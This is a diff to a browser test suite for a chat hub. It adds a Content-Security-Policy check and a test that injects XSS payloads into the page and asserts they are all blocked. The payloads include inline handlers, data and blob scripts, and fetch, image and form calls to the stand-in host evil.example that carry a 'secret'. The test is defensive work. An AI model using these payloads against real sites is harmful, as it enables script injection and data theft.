@@ -70,6 +70,7 @@ Enter = Callable[..., Page]
 def enter(browser: Browser, chat_hub: RunningHub) -> Iterator[Enter]:
     """Sign a person in with a browser of their own; whatever it does, it asks no other host for anything."""
     contexts: list[BrowserContext] = []
+    refused: list[str] = []
     asked: set[str] = set()
     hosts = {chat_hub.url}
 
@@ -77,6 +78,7 @@ def enter(browser: Browser, chat_hub: RunningHub) -> Iterator[Enter]:
         hosts.add(url)
         context = browser.new_context(base_url=url, **options)  # type: ignore[arg-type]
         contexts.append(context)
+        context.on("console", lambda said: refused.append(said.text) if "Security Policy" in said.text else None)
         context.on("request", lambda request: asked.add(request.url))
         context.add_init_script(_COUNT_SOCKETS)
         page = context.new_page()
@@ -92,6 +94,7 @@ def enter(browser: Browser, chat_hub: RunningHub) -> Iterator[Enter]:
     yield sign_in
     for context in contexts:
         context.close()
+    assert refused == []  # nothing that our own pages do is against their Content-Security-Policy
     loaded = {url for url in asked if urlsplit(url).scheme in ("http", "https")}
     assert not {url for url in loaded if not url.startswith(tuple(hosts))}
 
@@ -182,6 +185,52 @@ def test_a_chat_is_taken_up_again_from_the_sidebar(enter: Enter, tmp_path: Path)
     expect(last_answer(page)).to_contain_text("result.csv")
     page.locator("#chat-input").fill("/")
     expect(page.locator(".command-item").first).to_be_visible()
+
+
+# --- what the page's policy keeps from running ------------------------------------------------------
+
+INJECTIONS = """async () => {
+  window.ran = [];
+  const refused = [];
+  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+  const place = document.body.appendChild(document.createElement('div'));
+  place.innerHTML = `<img src=x onerror="ran.push('handler')"><svg onload="ran.push('svg')"></svg>
+    <a id=link href="javascript:ran.push('link')">x</a><p style="background:url(//evil.example/style)">x</p>
+    <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
+    <img src="https://evil.example/pixel?secret"><form id=form action="https://evil.example/"></form>`;
+  document.getElementById('link').click();
+  for (const fill of [(script) => (script.textContent = "ran.push('inline')"),
+                      (script) => (script.src = 'https://evil.example/x.js'),
+                      (script) => (script.src = "data:text/javascript,ran.push('data')"),
+                      (script) => (script.src = URL.createObjectURL(new Blob(["ran.push('blob')"])))]) {
+    const script = document.createElement('script');
+    fill(script);
+    place.append(script);
+  }
+  document.getElementById('form').submit();
+  await fetch('https://evil.example/?secret', { mode: 'no-cors' }).catch(() => refused.push('fetch failed'));
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return { ran: window.ran, refused: [...new Set(refused)].sort() };
+}"""
+
+
+def test_markup_that_slips_in_runs_nothing_and_tells_nobody(browser: Browser, chat_hub: RunningHub) -> None:
+    """Data is escaped; were it not, the policy still keeps it from running and from reaching another site."""
+    context = browser.new_context(base_url=chat_hub.url)
+    blocked: dict[str, str | None] = {}
+    context.on("requestfailed", lambda request: blocked.update({request.url: request.failure}))
+    page = context.new_page()
+    page.goto("/login")
+    page.fill("input[name=name]", "alice")
+    page.fill("input[name=password]", "admin")
+    page.click("button[type=submit]")
+    page.wait_for_selector(".hub-home")
+    found = page.evaluate(INJECTIONS)
+    context.close()
+    assert found["ran"] == []
+    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src", "form-action"} <= set(found["refused"])
+    elsewhere = {reason for url, reason in blocked.items() if "evil.example" in url}
+    assert elsewhere == {"csp"}  # stopped in the browser, before anything was sent
 
 
 # --- tables ---------------------------------------------------------------------------------------
